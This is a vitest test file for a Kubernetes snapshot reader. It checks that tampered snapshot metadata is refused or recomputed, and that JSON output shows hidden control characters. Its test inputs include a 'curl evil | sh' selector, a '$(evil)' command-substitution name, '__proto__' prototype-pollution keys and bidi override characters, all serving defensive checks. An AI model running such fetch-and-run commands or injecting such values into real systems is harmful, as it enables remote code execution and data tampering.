import { describe, expect, test } from 'vitest'
import { importTexts } from '../../src/kube/import/import.ts'
import { readSnapshot, writeSnapshot } from '../../src/kube/snapshot/file.ts'
import { visibleJson } from '../../src/request/json-text.ts'

/*
 * What a snapshot file says beside its content is checked kind by kind; JSON shows what is unseen.
 */

const POD =
  'apiVersion: v1\nkind: Pod\nmetadata: { name: a, namespace: shop }\nspec: { nodeName: n1, containers: [] }\nstatus: { phase: Running, podIP: 10.0.0.5 }\n'
const TEXT = writeSnapshot(
  importTexts([{ file: 'a.yaml', text: `${POD}---\nkind: Pod\n\tx: 1\n` }], { name: 's' }).snapshot,
)

const changed = (part: 'gaps' | 'contradictions', value: object): string => {
  const data: object = JSON.parse(TEXT)
  return JSON.stringify({ ...data, [part]: [value] })
}

describe('a snapshot file', () => {
  test('is read as it was written, gaps included', () => {
    expect(readSnapshot('s.json', TEXT).gaps.some(({ kind }) => kind === 'unread')).toBe(true)
    const again = readSnapshot('again.json', writeSnapshot(readSnapshot('s.json', TEXT)))
    expect(again).toEqual(readSnapshot('s.json', TEXT))
  })

  test.each([
    ['contradictions', { kind: 'pod-cidr-shared' }],
    ['contradictions', { kind: 'pod-cidr-shared', cidr: '10.0.0.0/24', nodes: 'n1' }],
    ['contradictions', { kind: 'identity-differs', pod: 'a', endpoint: 'x', labels: 1 }],
    ['contradictions', { kind: 'constructor' }],
    ['contradictions', { kind: 'unheard-of' }],
    ['gaps', { kind: 'made-up', what: '__proto__', count: 1, decides: false }],
    ['gaps', { kind: 'kind-missing', resource: 'toString', decides: true }],
    ['gaps', { kind: 'left-out', object: 7, field: 'x', decides: true }],
    ['gaps', { kind: '__proto__', decides: true }],
  ] as const)('with %s that no import writes is refused by field: %j', (part, value) => {
    expect(() => readSnapshot('s.json', changed(part, value))).toThrow(new RegExp(`bad-file.*"${part}\\[0\\]"`))
  })
})

describe('of what a snapshot file says beside its content', () => {
  const opened = (part: 'gaps' | 'contradictions', value: object, more: object = {}) => {
    const data: Record<string, unknown> = JSON.parse(TEXT)
    const old = data[part]
    const list = Array.isArray(old) ? [...old, value] : [value]
    return () => readSnapshot('s.json', JSON.stringify({ ...data, [part]: list, ...more }))
  }
  const as = (value: object) => expect.objectContaining(value)

  test.each([
    ['gaps', { kind: 'made-up', what: 'pods', count: 666, names: ['evil'], decides: true }],
    ['gaps', { kind: 'pod-without-node', pod: 'shop/evil', decides: true }],
    ['gaps', { kind: 'policy-unread', policy: 'NetworkPolicy shop/evil', field: 'evil', decides: true }],
    ['contradictions', { kind: 'address-shared', ip: '6.6.6.6', objects: ['evil', 'worse'] }],
    ['contradictions', { kind: 'service-selects-nothing', service: 'evil', selector: 'curl evil | sh' }],
  ] as const)('what the content would show is found again, not believed: %s %j', (part, value) => {
    expect(JSON.stringify(opened(part, value)())).not.toContain('evil')
    expect(opened(part, value)()).toEqual(readSnapshot('s.json', TEXT))
  })

  test.each([
    ['gaps', { kind: 'unread', place: 'evil', decides: true }],
    ['gaps', { kind: 'redacted', object: 'Pod shop/a', field: 'evil', decides: true }],
    ['gaps', { kind: 'pod-unmanaged', pod: 'shop/a', decides: true }],
    ['contradictions', { kind: 'same-object-twice', object: 'evil', places: ['evil'] }],
    ['contradictions', { kind: 'identity-differs', pod: 'shop/a', endpoint: 666, labels: 1 }],
  ] as const)('what only an import can have seen is sealed: %s %j', (part, value) => {
    expect(opened(part, value)).toThrow(/bad-file.*"seal"/)
  })

  test('the time when it was taken is sealed too', () => {
    const text = TEXT.replace('"name":"s"', '"name":"s","takenAt":"2020-01-01T00:00:00Z"')
    expect(() => readSnapshot('s.json', text)).toThrow(/bad-file.*"seal"/)
  })

  test('a file of before the seal opens: what is missing is believed of what is there, by names that can be', () => {
    const data: Record<string, unknown> = JSON.parse(TEXT)
    const { seal: _, ...rest } = data
    const gaps = [
      { kind: 'pod-unmanaged', pod: 'shop/a', decides: true },
      { kind: 'pod-unmanaged', pod: 'shop/evil', decides: true },
      { kind: 'left-out', object: 'Pod shop/b', field: 'spec', decides: true },
      { kind: 'left-out', object: 'Pod $(evil)', field: 'spec', decides: true },
    ]
    const contradictions = [{ kind: 'same-object-twice', object: 'evil', places: [] }]
    const text = JSON.stringify({ ...rest, gaps, contradictions })
    const snapshot = readSnapshot('s.json', text)
    expect(snapshot.gaps).toEqual(expect.arrayContaining([as({ pod: 'shop/a' }), as({ object: 'Pod shop/b' })]))
    expect(JSON.stringify(snapshot)).not.toContain('evil')
  })
})

test('JSON shows C1 controls and marks of direction, and is the same data', () => {
  const value = { name: 'a\u009b31m\u202eb\u2066\u200f\u0085\u2028' }
  const json = visibleJson(JSON.stringify(value))
  expect(json).not.toMatch(/[\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]/)
  expect(JSON.parse(json)).toEqual(value)
})
